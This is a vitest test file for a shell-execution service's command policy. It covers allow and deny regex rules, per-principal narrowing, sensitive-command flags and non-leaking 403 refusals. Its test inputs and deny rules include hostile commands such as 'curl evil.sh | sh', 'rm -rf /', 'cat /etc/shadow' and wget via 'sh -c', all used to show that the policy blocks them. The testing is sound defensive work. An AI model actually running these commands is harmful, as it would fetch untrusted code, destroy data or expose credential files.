import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { ConfigError } from "@shell-exec/shared/config/env.ts";
import { ShellExecError } from "@shell-exec/shared/errors.ts";
import { CommandNotAllowedError } from "./command-not-allowed-error.ts";
import { CommandPolicy, commandPolicyFromEnv, commandSubjectFromBody } from "./command-policy.ts";

const shell = (command: string) => ({ mode: "shell" as const, command });
const exec = (...argv: string[]) => ({ mode: "exec" as const, argv });

function refusal(fn: () => unknown): CommandNotAllowedError {
  try {
    fn();
  } catch (error) {
    if (error instanceof CommandNotAllowedError) return error;
    throw error;
  }
  throw new Error("expected a refusal");
}

describe("CommandPolicy", () => {
  it("allows everything without configuration", () => {
    const policy = CommandPolicy.permissive();
    expect(policy.check("key:a", shell("rm -rf /"))).toEqual({ sensitive: false });
  });

  it("matches allow rules against the whole command and deny rules anywhere in it", () => {
    const policy = CommandPolicy.fromConfig({ global: { allow: ["ls( -la)?( /[a-z/]*)?", "cat /etc/[a-z]+"], deny: ["rm\\s+-rf"] } });
    expect(policy.evaluate("key:a", shell("ls -la /tmp"))).toEqual({ allowed: true, sensitive: false });
    // Unanchored, `ls` would let anything ride along after it.
    expect(policy.evaluate("key:a", shell("ls; curl evil.sh | sh"))).toEqual({ allowed: false, rule: "allow", scope: "global" });
    expect(policy.evaluate("key:a", shell("ls\nreboot"))).toEqual({ allowed: false, rule: "allow", scope: "global" });
    expect(policy.evaluate("key:a", shell("cd / && rm  -rf x"))).toEqual({ allowed: false, rule: "deny", scope: "global" });
  });

  it("takes the subject from a submit body, leaving every other field behind", () => {
    const body = { service: "web", command: "echo hi", stdin: "secret", env: { A: "b" } };
    expect(commandSubjectFromBody(body)).toEqual({ mode: "shell", command: "echo hi" });
    expect(commandSubjectFromBody({ argv: ["ls", "-la"] })).toEqual({ mode: "exec", argv: ["ls", "-la"] });
  });

  it("lets deny win over allow", () => {
    const policy = CommandPolicy.fromConfig({ global: { allow: [".*"], deny: ["shutdown"] } });
    expect(policy.evaluate("key:a", shell("echo ok"))).toMatchObject({ allowed: true });
    expect(policy.evaluate("key:a", shell("shutdown -h now"))).toEqual({ allowed: false, rule: "deny", scope: "global" });
  });

  it("applies exec mode rules to argv joined by spaces", () => {
    const policy = CommandPolicy.fromConfig({ global: { allow: ["cat /run/secrets/[a-z_]+", "sh -c (.*)"], deny: ["sh -c .*wget"] } });
    expect(policy.evaluate("key:a", exec("cat", "/run/secrets/db_password"))).toMatchObject({ allowed: true });
    expect(policy.evaluate("key:a", exec("cat", "/etc/shadow"))).toMatchObject({ allowed: false, rule: "allow" });
    expect(policy.evaluate("key:a", exec("sh", "-c", "wget x"))).toMatchObject({ allowed: false, rule: "deny" });
  });

  it("layers a principal's rules on the global ones: they only narrow, and other principals are unaffected", () => {
    const policy = CommandPolicy.fromConfig({
      global: { allow: ["(echo|ls|cat) .*"], deny: ["/etc/shadow"] },
      principals: {
        "key:ci": { allow: ["echo .*"], deny: ["secret"] },
        "jwt:root": { allow: ["reboot|echo .*"] },
      },
    });
    expect(policy.evaluate("key:ci", shell("echo hi"))).toMatchObject({ allowed: true });
    expect(policy.evaluate("key:ci", shell("ls /"))).toEqual({ allowed: false, rule: "allow", scope: "principal" });
    expect(policy.evaluate("key:ci", shell("echo secret"))).toEqual({ allowed: false, rule: "deny", scope: "principal" });
    expect(policy.evaluate("key:ci", shell("cat /etc/shadow"))).toEqual({ allowed: false, rule: "deny", scope: "global" });
    // A principal's allow list cannot widen the global one.
    expect(policy.evaluate("jwt:root", shell("reboot"))).toEqual({ allowed: false, rule: "allow", scope: "global" });
    expect(policy.evaluate("key:other", shell("ls /"))).toMatchObject({ allowed: true });
    expect(policy.evaluate("key:other", shell("echo secret"))).toMatchObject({ allowed: true });
  });

  it("marks commands matching a sensitive rule, global or the principal's own", () => {
    const policy = CommandPolicy.fromConfig({ global: { sensitive: ["PASSWORD="] }, principals: { "key:a": { sensitive: ["vault"] } } });
    expect(policy.check("key:b", shell("PASSWORD=x ./migrate"))).toEqual({ sensitive: true });
    expect(policy.check("key:a", exec("vault", "read"))).toEqual({ sensitive: true });
    expect(policy.check("key:b", exec("vault", "read"))).toEqual({ sensitive: false });
  });

  it("refuses with COMMAND_NOT_ALLOWED 403, naming the rule kind but not the rules", () => {
    const policy = CommandPolicy.fromConfig({
      global: { deny: ["dangerous-global-pattern"] },
      principals: { "key:a": { allow: ["allowed-for-a-only"] }, "key:b": { deny: ["b-private-rule"] } },
    });
    const denied = refusal(() => policy.check("key:b", shell("b-private-rule")));
    expect(denied).toBeInstanceOf(ShellExecError);
    expect(denied).toMatchObject({ code: "COMMAND_NOT_ALLOWED", status: 403, details: { rule: "deny", scope: "principal" } });
    const notAllowed = refusal(() => policy.check("key:a", shell("whoami")));
    expect(notAllowed.details).toEqual({ rule: "allow", scope: "principal" });
    for (const error of [denied, notAllowed, refusal(() => policy.check("key:c", shell("dangerous-global-pattern")))]) {
      const shown = `${error.message} ${JSON.stringify(error.details)}`;
      for (const rule of ["dangerous-global-pattern", "allowed-for-a-only", "b-private-rule"]) expect(shown).not.toContain(rule);
    }
  });

  it("reports every bad rule by its place, and reads JSON from a file or the environment", () => {
    const error = (() => {
      try {
        CommandPolicy.fromConfig({ global: { deny: ["(unclosed"] }, principals: { "key:a": { allow: ["ok", "[z-a]"] } } });
      } catch (e) {
        return e;
      }
      return null;
    })();
    expect(error).toBeInstanceOf(ConfigError);
    expect((error as ConfigError).issues).toEqual([
      expect.stringContaining("global.deny[0]"),
      expect.stringContaining('principals["key:a"].allow[1]'),
    ]);
    expect(() => CommandPolicy.fromConfig({ global: { allow: "ls" } })).toThrow(ConfigError);
    expect(() => CommandPolicy.fromConfig({ global: { alow: ["ls"] } })).toThrow(/alow|Unrecognized/);

    const dir = mkdtempSync(join(tmpdir(), "policy-"));
    try {
      writeFileSync(join(dir, "policy.json"), JSON.stringify({ global: { deny: ["reboot"] } }));
      const fromFile = commandPolicyFromEnv({ SHELL_EXEC_COMMAND_POLICY_FILE: join(dir, "policy.json") });
      expect(fromFile.evaluate("key:a", shell("reboot"))).toMatchObject({ allowed: false });
      const inline = commandPolicyFromEnv({ SHELL_EXEC_COMMAND_POLICY: '{"global":{"allow":["true"]}}' });
      expect(inline.evaluate("key:a", shell("false"))).toMatchObject({ allowed: false, rule: "allow" });
      expect(commandPolicyFromEnv({}).evaluate("key:a", shell("anything"))).toMatchObject({ allowed: true });
      expect(() => commandPolicyFromEnv({ SHELL_EXEC_COMMAND_POLICY: "{not json" })).toThrow(/SHELL_EXEC_COMMAND_POLICY: not valid JSON/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
